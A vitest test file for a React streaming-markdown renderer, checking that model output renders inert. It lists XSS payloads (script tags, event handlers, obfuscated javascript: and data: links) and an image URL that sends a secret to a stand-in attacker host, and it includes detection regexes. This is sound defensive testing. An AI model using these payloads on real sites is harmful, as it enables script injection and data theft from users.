import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, test } from 'vitest'
import { StreamingMarkdown } from './streaming-markdown.tsx'

const html = (text: string, open = false) => renderToStaticMarkup(<StreamingMarkdown text={text} open={open} />)

const elements =
  /^<\/?(?:div|p|h[456]|a|bdi|span|svg|rect|path|section|pre|code|button|table|thead|tbody|tr|th|td|ul|ol|li|em|strong|del|blockquote|hr|br|sup)\b/
/** Attributes that run something, or fetch something by themselves, or lead where nobody should go. */
const active = /\s(?:on\w+|src|srcset|style|formaction|xlink:href)=|\shref="(?!https?:|mailto:)/i

/** The tags that should not be there. Text is escaped, so whatever stands between angle brackets is a tag. */
const dangerous = (markup: string) => (markup.match(/<[^>]*>/g) ?? []).filter((tag) => !elements.test(tag) || active.test(tag))

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<style>@import url(https://evil.example)</style>',
  '<link rel=prefetch href=https://evil.example>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT&colon;alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '![x](https://evil.example/?secret=1)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '[![x](https://evil.example/a.png)](javascript:alert(1))',
  '| a |\n| --- |\n| <img src=x onerror=alert(1)> |',
  '- [ ] <input onfocus=alert(1) autofocus>',
  '```html\n<script>alert(1)</script>\n```',
  'a[^1]\n\n[^1]: <script>alert(1)</script>',
]

describe('X1, X2, X3: whatever a model writes is inert', () => {
  test.each(attacks)('%j', (attack) => {
    expect(dangerous(html(attack))).toEqual([])
  })
  test.each(attacks)('%j, at every prefix', (attack) => {
    for (let end = 1; end <= attack.length; end += 1) expect(dangerous(html(attack.slice(0, end), true))).toEqual([])
  })
})

test('X3: an image is named and offered as a link, never loaded', () => {
  const shown = html('![a chart](https://charts.example/1.png)')
  expect(shown).toContain('Image, not loaded: a chart')
  expect(shown).toContain('charts.example')
  expect(shown).not.toContain('<img')
})

test('X4: a link shows where it leads unless its text says so already', () => {
  expect(html('[your bank](https://evil.example/login)')).toContain('(evil.example)')
  expect(html('https://example.org/page')).not.toContain('md-target')
})

test('half a bold word is bold at once, so that nothing jumps when it ends', () => {
  expect(html('This is **bo', true)).toContain('<strong>bo</strong>')
})

test('an open fence is code from its first line on', () => {
  expect(html('```ts\nconst a =', true)).toContain('<code>const a =</code>')
})

test('a block longer than is worth parsing is shown as it is written', () => {
  expect(html(`${'**word** '.repeat(3000)}`)).toContain('**word**')
})
